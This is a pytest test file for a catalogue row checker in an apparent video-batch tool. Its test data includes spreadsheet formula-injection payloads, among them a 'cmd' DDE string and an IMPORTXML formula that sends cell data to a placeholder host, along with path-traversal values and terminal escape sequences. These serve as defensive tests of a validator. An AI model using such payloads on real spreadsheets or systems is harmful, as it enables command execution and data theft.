"""Rows of a catalogue: what each becomes, and what is told of those that are wrong."""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nightreel.batch.catalogue_file import open_file
from nightreel.batch.rows import CheckedRow, check_catalogue, key_slug, run_id_of
from nightreel.errors import BusyError, NightreelError, RefusedError, SpecError


def test_a_row_becomes_a_brief(check):
    done = check("sku,title,Selling points,parameters.battery,price\nW-1,Aurora,Light|Bright,14 days,99\n")
    (row,) = done.rows
    assert (row.number, row.key, row.title, row.state) == (2, "W-1", "Aurora", "ready")
    assert row.brief["selling_points"] == ["Light", "Bright"]
    assert row.brief["parameters"] == {"battery": "14 days"}
    assert done.check.counts == {"ready": 1, "wrong": 0, "duplicate": 0, "filtered": 0}


def test_one_bad_row_fails_alone(check):
    done = check("sku,title,duration_s\nW-1,Aurora,8\nW-2,Boreal,long\nW-3,Corona,9\n")
    assert done.states == ["ready", "wrong", "ready"]
    (fault,) = done.rows[1].faults
    assert (fault.code, fault.where) == ("brief.duration_s", "catalogues/spring.csv:3, column duration_s")
    assert (fault.got, fault.want) == ("long", "a number")


def test_every_fault_of_a_row_is_told_with_its_column(check):
    done = check(
        "sku,Name,seconds,style,platforms,pictures,language\nW-1,,300,cartoony,youtub,../x.png|gone.png,fr\n",
        "columns: {title: Name, duration_s: seconds}",
    )  # fmt: skip
    assert done.told() == [
        "brief.title catalogues/spring.csv:2, column Name",
        "brief.style catalogues/spring.csv:2, column style",
        "brief.duration_s catalogues/spring.csv:2, column seconds",
        "brief.language catalogues/spring.csv:2, column language",
        "platform.name catalogues/spring.csv:2, column platforms",
        "path.outside catalogues/spring.csv:2, column pictures",
        "path.missing catalogues/spring.csv:2, column pictures",
    ]
    done = check("sku,title,platforms,pictures\nW-1,A,youtub,../x.png|gone.png\n")
    assert done.told() == [
        "platform.name catalogues/spring.csv:2, column platforms",
        "path.outside catalogues/spring.csv:2, column pictures",
        "path.missing catalogues/spring.csv:2, column pictures",
    ]
    assert done.rows[0].faults[0].fix == "write youtube instead of youtub"


def test_a_file_that_is_not_there_has_the_nearest_name(check, write_tenant):
    (write_tenant().root / "media" / "watch_front.png").touch()
    fault = check("sku,title,pictures\nW-1,A,watch_frnt.png\n").rows[0].faults[0]
    assert (fault.code, fault.fix) == ("path.missing", "write watch_front.png instead of watch_frnt.png")


def test_a_formula_hides_no_other_fault_of_its_row(check):
    done = check("sku,title,duration_s,pictures\nW-1,=1+1,300,gone.png\nW-2,=1+1,8,gone.png\n")
    assert done.told(0) == [
        "catalogue.formula catalogues/spring.csv:2, column title",
        "brief.duration_s catalogues/spring.csv:2, column duration_s",
        "path.missing catalogues/spring.csv:2, column pictures",
    ]
    assert done.told(1) == [
        "catalogue.formula catalogues/spring.csv:3, column title",
        "path.missing catalogues/spring.csv:3, column pictures",
    ]


def test_an_empty_cell_is_to_be_filled(check):
    (fault,) = check("sku,Name\nW-1,\n", "columns: {title: Name}").rows[0].faults
    assert (fault.got, fault.fix) == ("an empty cell", "fill the cell")


def test_what_steers_a_terminal_is_taken_out(check):
    done = check("sku,title,sty\x1ble,slogan\nW-1,\x1b[31mAur\u202eora,\x1b]0;x\x07wild,Li\x9fght\n")
    assert done.told() == ["brief.style catalogues/spring.csv:2, column style"]
    assert (done.rows[0].title, done.rows[0].faults[0].got) == ("[31mAurora", "]0;xwild")


def test_a_catalogue_that_is_being_written_is_read_again_later(write_tenant, tmp_path):
    folder = write_tenant()
    path = folder.root / "catalogues" / "spring.csv"
    path.write_text("sku,title\nW-1,A\n")
    file = open_file("catalogues/spring.csv", folder.tenant, folder.root, tmp_path, "")
    file.check_same()
    path.write_text("sku,title\nW-1,A\nW-2,B\n")
    with pytest.raises(BusyError, match=r"\[catalogue\.changed\] catalogues/spring\.csv"):
        file.check_same()


def test_a_disk_that_fails_may_pass(write_tenant, tmp_path):
    folder = write_tenant()
    (folder.root / "catalogues" / "spring.csv").write_text("sku,title\nW-1,A\n")
    with pytest.raises(BusyError, match=r"\[catalogue\.broken\] catalogues/spring\.csv: got No such file"):
        check_catalogue(folder, "teaser", "2026-11-22", tmp_path / "gone")


def test_links_and_folders_are_no_catalogue(write_tenant, tmp_path):
    folder = write_tenant()
    path = folder.root / "catalogues" / "spring.csv"
    (tmp_path / "secret.csv").write_text("sku,title\nW-1,A\n")
    path.symlink_to(tmp_path / "secret.csv")
    with pytest.raises(RefusedError, match=r"\[catalogue\.outside\] pipelines/teaser\.yaml:12"):
        check_catalogue(folder, "teaser", "2026-11-22", tmp_path)
    path.unlink()
    path.mkdir()
    with pytest.raises(SpecError, match=r"\[catalogue\.kind\]"):
        check_catalogue(folder, "teaser", "2026-11-22", tmp_path)


def test_a_second_row_of_a_key_names_the_first(check):
    done = check("sku,title\nW-1,A\nW-2,B\nW-1,C\n")
    assert done.states == ["ready", "ready", "duplicate"]
    assert done.rows[2].faults[0].got == "W-1 again, as in line 2"


@pytest.mark.parametrize("key", ["", " ", "x" * 201, "a\u200bb", "=A1", '"a\nb"'])
def test_a_key_that_is_none_is_the_rows_fault(check, key):
    done = check(f"sku,title\n{key},Aurora\nW-2,Boreal\n")
    assert done.states == ["wrong", "ready"]
    assert done.told(0)[0].endswith("spring.csv:2, column sku")


@pytest.mark.parametrize(
    "text",
    ["=HYPERLINK(\"http://x\";\"y\")", "=1+2", "=A1", "=cmd|' /C calc'!A0", "+SUM(A1:A9)", "@SUM(1)", "-A1+B2",
     "+A1:B9", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "＝1+1", "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")"],
)  # fmt: skip
def test_a_formula_is_refused(check, text):
    quoted = text.replace('"', '""')
    done = check(f'sku,title,slogan\nW-1,Aurora,"{quoted}"\nW-2,Boreal,Fine\n')
    assert done.states == ["wrong", "ready"]
    (fault,) = done.rows[0].faults
    assert (fault.code, fault.where) == ("catalogue.formula", "catalogues/spring.csv:2, column slogan")
    assert fault.refused
    assert "copy and paste as values" in fault.fix


@pytest.mark.parametrize(
    "text",
    ["-5", "+49 30 1234", "- light as a feather", "-20 % this week", "@lumen", "+5 years", "-", "--", "a=b", "= ", "=",
     "-10 °C to +40 °C", "@home: a watch", "+1", "-A4 paper", "'=1+1", "==== new ====",
     "- Display (AMOLED)", "+ Bluetooth (5.3)", "- Light|Now in blue!", "- A4 / A5 paper", "-20 % | today!",
     "+Akku(neu)"],
)  # fmt: skip
def test_text_that_begins_like_a_formula_is_text(check, text):
    done = check(f'sku,title,slogan\nW-1,Aurora,"{text}"\n')
    assert done.states == ["ready"], done.rows[0].faults
    assert done.rows[0].brief["slogan"] == text.strip()


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("- Light\n- Bright\n\n• Calm", ["Light", "Bright", "Calm"]),
        ("-10 °C to +40 °C | -5 % power", ["-10 °C to +40 °C", "-5 % power"]),
        ("a, b; c and d", ["a, b", "c and d"]),
        ("轻；亮；静", ["轻", "亮", "静"]),
        ("one|", ["one"]),
        ("a;b|c", ["a;b", "c"]),
        ("|;|", []),
    ],
)
def test_entries_of_a_cell(check, text, wanted):
    done = check(f'sku,title,selling_points\nW-1,Aurora,"{text}"\n')
    assert done.rows[0].brief["selling_points"] == wanted


def test_formulas_of_a_lesson_are_divided_by_lines_alone(check):
    done = check('sku,title,mathematical_form\nW-1,Norm,"|x| = -y; x > 0\n-x = y"\n')
    assert done.rows[0].brief["mathematical_form"] == ["|x| = -y; x > 0", "-x = y"]


def test_a_filter_looks_at_words_and_numbers_only(check):
    lines = ['{"sku": "1", "title": "A", "film": ["yes"]}', '{"sku": "2", "title": "B", "film": true}']
    done = check("\n".join(lines), "where: [{column: film, is: ['true']}]", name="catalogues/spring.jsonl")
    assert done.states == ["wrong", "ready"]


def test_a_refused_row_says_which_rule(check):
    done = check("sku,title,selling_points\nW-1,Aurora,Light|Cocaine delivered to your door\nW-2,Boreal,Light\n")
    assert done.states == ["wrong", "ready"]
    (fault,) = done.rows[0].faults
    assert fault.code.startswith("safety.")
    assert fault.where == "catalogues/spring.csv:2, column selling_points"
    assert fault.refused


def test_filters_and_a_limit_leave_rows_out(check):
    done = check(
        'sku,title,film,price\nA,a,yes,5\nB,b,no,50\nC,c,YES ,"50,5"\nD,d,,70\nE,e,yes,\n'
        "F,f,yes,80 €\nG,g,yes,90\nH,h,yes,cheap\n",
        "where: [{column: film, is: [yes]}, {column: price, min: 10}]", "limit: 3",
    )  # fmt: skip
    assert [(row.key, row.state) for row in done.rows] == [
        ("A", "filtered"), ("B", "filtered"), ("C", "ready"), ("D", "filtered"), ("E", "filtered"), ("F", "ready"),
        ("G", "ready"), ("H", "filtered"),
    ]  # fmt: skip
    assert done.check.filtered == 5


def test_a_filter_that_compares_asks_for_a_number(check):
    done = check("sku,title,price\nA,a,cheap\nB,b,12\n", "where: [{column: price, min: 10, max: 20}]")
    assert done.states == ["wrong", "ready"]
    assert done.told(0)[0] == "catalogue.number catalogues/spring.csv:2, column price"


def test_nothing_is_left_where_filters_take_everything(check):
    done = check("sku,title,film\nA,a,no\n", "where: [{column: film, not: [no]}]")
    assert done.check.notes == ("Every row is left out by where:.",)


def test_too_many_rows_are_refused(check, monkeypatch):
    monkeypatch.setattr("nightreel.batch.rows.MAX_ROWS", 3)
    with pytest.raises(SpecError, match=r"\[catalogue\.rows\] catalogues/spring\.csv:5: got more than 3 rows"):
        check("sku,title\n" + "".join(f"W-{at},T\n" for at in range(9)))


def test_a_digest_is_of_what_the_row_says_and_of_nothing_else(check):
    plain = check("sku,title,slogan\nW-1,Aurora,Light\n").rows[0]
    moved = check("note,slogan,title,price,sku\nnew!,Light,Aurora,99,W-1\n").rows[0]
    other = check("sku,title,slogan\nW-1,Aurora,Bright\n").rows[0]
    assert plain.digest == moved.digest
    assert plain.digest != other.digest
    assert plain.digest != check("sku,title,slogan\nW-2,Aurora,Light\n").rows[0].digest


def test_a_digest_is_of_the_files_that_a_row_names(check, write_tenant):
    media = write_tenant().root / "media" / "a.png"
    media.write_bytes(b"one")
    first = check("sku,title,pictures\nW-1,Aurora,a.png\n").rows[0]
    media.write_bytes(b"two")
    assert check("sku,title,pictures\nW-1,Aurora,a.png\n").rows[0].digest != first.digest


ALLOWED = re.compile(r"^[A-Za-z0-9_.~:+-]+$")


@pytest.mark.parametrize("key", ["W-1", "a b", "../../etc", "手表", "x" * 200, "a.b", "%2e", "👩‍🚀", "A", "a"])
def test_a_runs_id_is_one_that_airflow_takes(key):
    row = CheckedRow(number=2, key=key, digest="ab" * 32)
    run_id = run_id_of("t" * 63, "p" * 63, row, "2026-11-22", 2)
    assert ALLOWED.fullmatch(run_id)
    assert len(run_id) <= 250
    assert run_id.endswith(".abababab.2026-11-22.2")
    assert run_id == run_id_of("t" * 63, "p" * 63, row, "2026-11-22", 2)


def test_a_plain_key_stands_in_the_id_as_it_is():
    row = CheckedRow(number=2, key="W-1", digest="ab" * 32)
    assert run_id_of("acme", "teaser", row, "2026-11-22") == "nightly__acme.teaser.W-1.abababab.2026-11-22"


@given(keys=st.lists(st.text(min_size=1, max_size=60), min_size=2, max_size=20, unique=True))
def test_other_keys_have_other_slugs(keys):
    slugs = [key_slug(key) for key in keys]
    assert len(set(slugs)) == len(slugs)
    assert all(re.fullmatch(r"[A-Za-z0-9_-]{1,40}", slug) for slug in slugs)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(data=st.binary(max_size=400))
def test_any_bytes_are_rows_or_one_of_our_errors(check, data):
    try:
        rows = check(b"sku,title,pictures\n" + data).rows
    except NightreelError:  # anything else fails the test
        rows = []
    assert all(row.faults for row in rows if row.state == "wrong")
